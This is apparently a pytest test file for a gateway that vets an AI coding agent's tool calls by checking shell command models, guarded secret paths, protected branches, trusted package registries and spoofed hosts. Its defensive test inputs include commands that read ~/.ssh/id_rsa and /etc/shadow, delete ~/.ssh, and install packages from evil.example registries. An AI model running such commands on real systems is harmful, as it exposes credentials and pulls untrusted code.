"""What a team says of its own programs, places, branches and hosts: it counts, it tightens, and mistakes name their line."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.config import Config
from gateway.configuration.rules import facts_settings
from gateway.configuration.sources import load
from gateway.domain.events import HookEvent
from gateway.domain.operations import Analysis
from gateway.errors import ConfigError
from gateway.facts.analyser import CallAnalyser, facts_data
from gateway.facts.shell.analysis import Surroundings, analyse
from gateway.facts.shell.catalogue import shipped_models
from gateway.facts.shell.model_check import as_model, problems_of
from gateway.facts.shell.models import Models
from gateway.facts.shell.roles import ROLES

DATA = facts_data()
PROJECT = "/home/dev/project"


def config_of(text: str, directory: Path) -> Config:
    file = directory / "ostiary.yaml"
    file.write_text(text)
    return load(file, {})


def analyser(config: Config) -> CallAnalyser:
    return CallAnalyser(facts_settings(config, [], ["127.0.0.1:8787", "127.0.0.1:8788"], DATA), DATA)


def call(tool: str, **given_input: object) -> HookEvent:
    return HookEvent(
        agent="claude-code",
        event="PreToolUse",
        tool=tool,
        tool_input=given_input,
        cwd=PROJECT,
        transcript_path="/home/dev/.claude/projects/-home-dev-project/1.jsonl",
    )


def bash(given_analyser: CallAnalyser, command: str) -> Analysis:
    return given_analyser.analyse(call("Bash", command=command))


def operations(found: Analysis, kind: str) -> set[tuple[str, str]]:
    return {(item.action, item.id) for item in found.operations if item.kind == kind}


COMMANDS = """
facts:
  commands:
    shipit:
      options: {"-c --config": read, "-o --output": write}
      subcommands:
        up: {operands: [host, read], effects: [{trait: deploys}]}
        dump: {operands: write-tree, flags: {"--all": {effects: [{credential: vault, all: yes}]}}}
      otherwise: {operands: none}
    ship.it-2: {like: shipit}
"""


def test_a_teams_own_command_is_known_and_does_what_its_model_says(tmp_path):
    own = analyser(config_of(COMMANDS, tmp_path))
    assert operations(bash(own, "shipit -o ~/.bashrc up web.example.com a.yaml"), "file") == {
        ("write", "/home/dev/.bashrc"),
        ("read", f"{PROJECT}/a.yaml"),
    }
    found = bash(own, "cd deploy && sudo ship.it-2 dump --all .")
    assert ("write", f"{PROJECT}/deploy/**") in operations(found, "file")
    assert operations(found, "credential") == {("read", "vault")}
    assert found.shell["unknown_commands"] == []
    assert bash(analyser(Config()), "shipit up x").shell["unknown_commands"] == ["shipit"]


def test_a_model_beside_a_shipped_one_adds_and_takes_nothing_away(tmp_path):
    config = config_of("facts: {commands: {cat: {operands: none, effects: [{contact: log.corp}]}}}", tmp_path)
    found = bash(analyser(config), "cat ~/.ssh/id_rsa")
    assert operations(found, "file") == {("read", "/home/dev/.ssh/id_rsa")}
    assert operations(found, "host") >= {("connect", "log.corp")} or ("send", "log.corp") in operations(
        found, "host"
    )


def acts(models: Models, command: str) -> set[tuple[str, str]]:
    """What a command does to paths and hosts by a command model."""
    trace = analyse(command, Surroundings(cwd=PROJECT, project_dir=PROJECT, home="/home/dev"), models)
    paths = {(action, path) for action, found in trace.paths.items() for path in found}
    return paths | {("contact", host) for host in trace.hosts} | {("agent", name) for name in trace.agents}


@pytest.mark.parametrize("name", ["python3.12", "rm.exe", "curl", "gcc-13", "claude"])
def test_a_spelling_of_a_shipped_program_cannot_be_made_harmless(name):
    own = DATA.commands.extended({name: as_model({"operands": "none"})})
    for command in (
        f"{name} -rf ~/.ssh",
        f"{name} -c 'open(\"/etc/shadow\")'",
        f"{name} https://x.example/",
    ):
        assert acts(own, command) >= acts(DATA.commands, command), command
    assert acts(own, f"{name} -rf ~/.ssh x.c https://x.example/")


@settings(max_examples=60)
@given(
    st.sampled_from(["rm", "cp", "grep", "tee", "dd", "tar", "sed", "git", "curl", "node", "python3"]),
    st.sampled_from([*sorted(ROLES - {"command"}), "code:python"]),
    st.sampled_from(
        [
            "-rf ~/.ssh/x /etc/y",
            "a b",
            "-o out https://x.example/a",
            "-e 'x' f",
            "if=a of=/b",
            "push origin main",
        ]
    ),
)
def test_no_model_takes_an_act_from_a_shipped_program(program, role, words):
    own = DATA.commands.extended({program: as_model({"operands": role})})
    assert acts(own, f"{program} {words}") >= acts(DATA.commands, f"{program} {words}")


def test_the_analysis_names_the_command_model_it_was_made_with(tmp_path):
    plain = bash(analyser(Config()), "ls").shell["analyzer"]
    own = bash(analyser(config_of(COMMANDS, tmp_path)), "ls").shell["analyzer"]
    assert plain != own
    assert own == bash(analyser(config_of(COMMANDS, tmp_path)), "ls").shell["analyzer"]
    assert plain == f"1-{shipped_models().revision}"


def test_every_shipped_model_can_mean_what_it_says():
    shipped = shipped_models()
    found = problems_of(shipped.models, knows=shipped.__contains__, programs=shipped.programs)
    assert list(found) == []


MISTAKES = [
    ("{operands: reed}", "shipit.operands: there is no role 'reed'", "The roles are"),
    ("{opernads: read}", "shipit.opernads: there is no such key", "A model's keys are"),
    ("{operands: ['*read', '*write']}", "several roles are for any number", "before one role"),
    ("{options: {output: write}}", "'output' names no option", "with its dash"),
    ("{options: {'-o': wriet}}", "options.-o: there is no role 'wriet'", "The roles are"),
    ("{flags: {'-r': {tree: perhaps}}}", "shipit.flags.tree: Expected `bool`", "command-model.md"),
    ("{flags: {'-r': {prints: everything}}}", "flags.-r.prints: nothing is printed as 'everything'", "copy"),
    ("{effects: [{trait: dangerous}]}", "effects[0]: there is no trait 'dangerous'", "destructive"),
    ("{effects: [{explodes: yes}]}", "effects[0]: this is no effect", "contact"),
    ("{effects: [{read: /a, manager: npm}]}", "'manager' does not belong to 'read'", "of its own"),
    ("{effects: [{package: eat, manager: x}]}", "a package needs an action", "install"),
    ("{effects: [{note: odd, leaves: 'exec taste'}]}", "'taste' is nothing that can be left open", "exec"),
    ("{like: nothing-of-the-kind}", "like: there is no model of 'nothing-of-the-kind'", "Name a program"),
    ("{like: shipit}", "like: it leads back to itself", "in full"),
    ("{program: magic}", "there is no function 'magic'", "The functions are"),
    (
        "{subcommands: {up: {operands: reed}}}",
        "shipit.subcommands.up.operands: there is no role",
        "The roles",
    ),
    ("{subcommands: {up: {like: down}}}", "there is no subcommand 'down'", "stands beside it"),
    ("[read]", "facts.commands.shipit: a model is a mapping", "Write {operands"),
    ("{prints: [a]}", "shipit.prints: Expected `str`", "command-model.md"),
]


@pytest.mark.parametrize(("model", "says", "remedy"), MISTAKES)
def test_a_model_that_can_mean_nothing_is_refused_with_its_line(model, says, remedy, tmp_path):
    with pytest.raises(ConfigError) as caught:
        config_of(f"mode: enforce\nfacts:\n  commands:\n    shipit:\n      {model}\n", tmp_path)
    assert f"{tmp_path}/ostiary.yaml:" in str(caught.value)
    assert says in str(caught.value)
    assert remedy in caught.value.remedy


def test_the_line_is_that_of_the_key_that_is_wrong(tmp_path):
    with pytest.raises(ConfigError, match=r"ostiary\.yaml:6: facts\.commands\.a\.b\.options\.-o"):
        config_of(
            'facts:\n  commands:\n    a.b:\n      operands: read\n      options:\n        "-o": wriet\n',
            tmp_path,
        )


def test_a_model_can_come_from_the_environment():
    config = load(
        None, {"OSTIARY__FACTS__COMMANDS": "{mk.all: {operands: write, flags: {-r: {tree: true}}}}"}
    )
    assert operations(bash(analyser(config), "mk.all -r out"), "file") == {("write", f"{PROJECT}/out/**")}


GROUPS = """
facts:
  groups:
    secrets: ["/srv/keys/**", "**/*.vault", "**/fixtures/real.pem"]
    site_customers: ["**/exports/**", "~/dumps/**"]
"""


@pytest.mark.parametrize(
    ("path", "group"),
    [
        ("/srv/keys/a", "secrets"),
        ("/SRV/KEYS/a", "secrets"),
        ("x.vault", "secrets"),
        ("a/fixtures/real.pem", "secrets"),
        (".env", "secrets"),
        ("data/Exports/q3.csv", "site_customers"),
        ("~/dumps/db.sql", "site_customers"),
        ("/root/dumps/db.sql", "site_customers"),
        ("/proc/self/root/home/dev/dumps/db.sql", "site_customers"),
        ("e\u200bxports/a", "site_customers"),
    ],
)
def test_places_of_the_site_are_guarded_like_the_shipped_ones(path, group, tmp_path):
    own = analyser(config_of(GROUPS, tmp_path))
    assert group in own.analyse(call("Read", file_path=path)).groups
    assert group in bash(own, f"cat '{path}'").groups or path.startswith("~")
    assert group in own.analyse(call("mcp__x__y", anything={"deep": [path]})).groups


def test_a_search_around_a_place_of_the_site_may_meet_it(tmp_path):
    found = analyser(config_of(GROUPS, tmp_path)).analyse(call("Grep", pattern="a"))
    assert "site_customers" in found.groups_may
    assert analyser(Config()).analyse(call("Read", file_path="data/exports/a")).groups == ()


@pytest.mark.parametrize(
    ("section", "says"),
    [
        ("groups: {secret: [/a]}", "groups.secret: there is no group"),
        ("groups: {site_: [/a]}", "groups.site_: there is no group"),
        ("groups: {secrets: [keys/a]}", r"groups.secrets\[0\]: 'keys/a' is no pattern"),
        ("registries: ['https://x y']", r"registries\[0\]: 'https://x y' is no host"),
        ("mcp: {crm: {tools: {get: {id: number}}}}", "mcp.crm.tools.get.id: there is no role 'number'"),
        ("mcp: {crm: {others: nothing}}", "mcp.crm.others: there is no role 'nothing'"),
    ],
)
def test_a_place_host_or_role_that_is_none_is_refused_with_its_line(section, says, tmp_path):
    with pytest.raises(ConfigError, match=rf"ostiary\.yaml:2: facts\.{says}"):
        config_of(f"facts:\n  {section}\n", tmp_path)


def test_branches_that_matter_are_the_sites_own(tmp_path):
    config = config_of("facts: {git: {protected: [live, 'rel-*'], deploys: [live]}}", tmp_path)

    def groups(command: str) -> list[str]:
        return next(
            item.attr["groups"] for item in bash(analyser(config), command).operations if item.kind == "git"
        )

    assert groups("git push origin live") == ["protected", "deploys"]
    assert groups("git push origin rel-7") == ["protected"]
    assert groups("git push origin main") == []


@pytest.mark.parametrize(
    ("command", "source"),
    [
        ("pip install x", "registry"),
        ("pip install -i https://packages.corp.example/simple x", "registry"),
        ("pip install --index-url https://packages.corp.example/simple x", "registry"),
        ("pip install --extra-index-url https://a.mirror.example/simple x", "registry"),
        ("pip install --index-url https://evil.example/simple x", "url"),
        ("npm install --registry=http://evil.example x", "url"),
        ("npm install --registry https://npm.mirror.example x", "registry"),
    ],
)
def test_a_registry_nobody_uses_is_an_address_like_any_other(command, source, tmp_path):
    config = config_of('facts: {registries: [packages.corp.example, "*.mirror.example"]}', tmp_path)
    found = bash(analyser(config), command)
    assert [item.attr["source"] for item in found.operations if item.kind == "package"] == [source]


def test_the_projects_own_hosts_are_told_apart(tmp_path):
    config = config_of('facts: {project_hosts: ["*.corp.example", get.tool.example]}', tmp_path)

    def groups(url: str) -> list[str]:
        return analyser(config).analyse(call("WebFetch", url=url)).operations[0].attr["groups"]

    assert groups("https://a.corp.example/install.sh") == ["public", "project"]
    assert groups("https://GET.tool.example./x") == ["public", "project"]
    assert groups("https://corp.example.evil.example/") == ["public"]
    assert groups("https://evilcorp.example/") == ["public"]


def test_scalars_of_yaml_are_the_texts_they_are_written_as():
    assert as_model({"effects": [{"credential": "env", "all": True}]}).effects == (
        {"credential": "env", "all": "true"},
    )
